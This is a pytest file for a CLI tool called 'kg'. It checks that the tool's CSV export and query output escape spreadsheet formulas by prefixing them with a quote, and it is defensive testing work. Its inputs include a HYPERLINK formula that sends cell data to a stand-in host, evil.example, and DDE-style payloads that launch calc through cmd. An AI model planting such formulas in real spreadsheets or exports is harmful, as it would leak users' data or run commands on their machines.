"""A spreadsheet user opening kg's CSV never runs a formula from the data: text that starts
with =, +, - or @ is written with a leading ' in ``kg export --format csv`` (with or without
--excel) and ``kg query --format csv``; numbers stay numbers."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest
from click.testing import CliRunner

from kg.cli import cli
from kg.core.cells import spreadsheet_safe

EVIL = '=HYPERLINK("http://evil.example/?"&A1,"Details")'


@pytest.mark.parametrize(
    ("text", "cell"),
    [
        (EVIL, "'" + EVIL),
        ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
        ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
        ("@SUM(1,2)", "'@SUM(1,2)"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("-5", "-5"),
        ("+1.5e3", "+1.5e3"),
        ("-.5", "-.5"),
        ("North Korea", "North Korea"),
        ("", ""),
    ],
)
def test_cells(text: str, cell: str) -> None:
    assert spreadsheet_safe(text) == cell


def test_export_and_query_csv_never_start_a_cell_with_a_formula(
    sample_repo: Path, runner: CliRunner
) -> None:
    sources = sample_repo / "data" / "sources.yaml"
    text = sources.read_text()
    old = "title: Human trafficking in North Korea (undated essay)"
    assert old in text
    sources.write_text(text.replace(old, "title: '" + EVIL.replace("'", "''") + "'"))
    assert runner.invoke(cli, ["build"]).exit_code == 0
    for excel in ([], ["--excel"]):
        result = runner.invoke(cli, ["export", "--format", "csv", "--edges", "-", *excel])
        assert result.exit_code == 0, result.output
        rows = list(csv.DictReader(io.StringIO(result.stdout.lstrip("\ufeff"))))
        titles = {r["source_title"] for r in rows}
        assert "'" + EVIL in titles
        cells = [c for r in rows for c in r.values()]
        assert not [c for c in cells if c.startswith(("=", "@")) or c.startswith("+-")]
    query = "SELECT ?t WHERE { ?s <http://purl.org/dc/terms/title> ?t }"
    result = runner.invoke(cli, ["query", "-e", query, "--format", "csv"])
    assert result.exit_code == 0, result.output
    assert "'" + EVIL in [r[0] for r in csv.reader(io.StringIO(result.stdout))]
